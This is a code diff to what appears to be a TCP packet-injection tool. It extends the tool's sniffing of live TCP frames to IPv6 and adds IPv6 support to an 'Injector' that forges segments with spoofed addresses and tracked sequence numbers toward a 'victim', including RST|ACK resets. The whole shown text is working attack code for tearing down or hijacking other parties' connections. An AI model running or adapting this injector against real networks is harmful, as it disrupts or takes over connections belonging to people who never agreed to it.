@@ -26,16 +26,20 @@ class Side:
             except BlockingIOError:
                 return
             if frame[12:14] == b"\x08\x00" and frame[23] == 6:
-                self.remember(frame)
+                length = struct.unpack("!H", frame[16:18])[0] - 20
+                self.remember(frame, socket.AF_INET, frame[26:34], frame[34:], length)
+            elif frame[12:14] == b"\x86\xdd" and frame[20] == 6:
+                length = struct.unpack("!H", frame[18:20])[0]
+                self.remember(frame, socket.AF_INET6, frame[22:54], frame[54:], length)
 
-    def remember(self, frame):
-        total = struct.unpack("!H", frame[16:18])[0]
-        sport, dport, seq, ack, offset, flags, window = struct.unpack("!HHIIBBH", frame[34:50])
-        payload = total - 20 - (offset >> 4) * 4
+    def remember(self, frame, family, addresses, segment, length):
+        sport, dport, seq, ack, offset, flags, window = struct.unpack("!HHIIBBH", segment[:16])
+        payload = length - (offset >> 4) * 4
         end = seq + payload + bool(flags & packets.SYN) + bool(flags & packets.FIN)
-        self.last[sport, dport] = {
-            "ethernet": frame[:14], "src": socket.inet_ntoa(frame[26:30]), "dst": socket.inet_ntoa(frame[30:34]),
-            "next": end, "ack": ack, "window": window}
+        src, dst = (socket.inet_ntop(family, part) for part in
+                    (addresses[:len(addresses) // 2], addresses[len(addresses) // 2:]))
+        self.last[sport, dport] = {"ethernet": frame[:14], "src": src, "dst": dst, "next": end, "ack": ack,
+                                   "window": window}
 
 
 class Injector:
@@ -58,7 +62,10 @@ class Injector:
 
     def inject(self, victim, ports, seen, seq, ack, flags, window, ttl, ip_id):
         segment = packets.tcp(seen["src"], ports[0], seen["dst"], ports[1], seq, ack, flags, window)
-        packet = packets.ipv4(seen["src"], seen["dst"], 6, segment, ttl, ip_id)
+        if ":" in seen["src"]:
+            packet = packets.ipv6(seen["src"], seen["dst"], 6, segment, ttl)
+        else:
+            packet = packets.ipv4(seen["src"], seen["dst"], 6, segment, ttl, ip_id)
         self.sides[victim].sock.send(seen["ethernet"] + packet)
 
     def reset(self, connection, victim, ahead=0, ttl=255, ip_id=0, flags=packets.RST | packets.ACK, window=0):
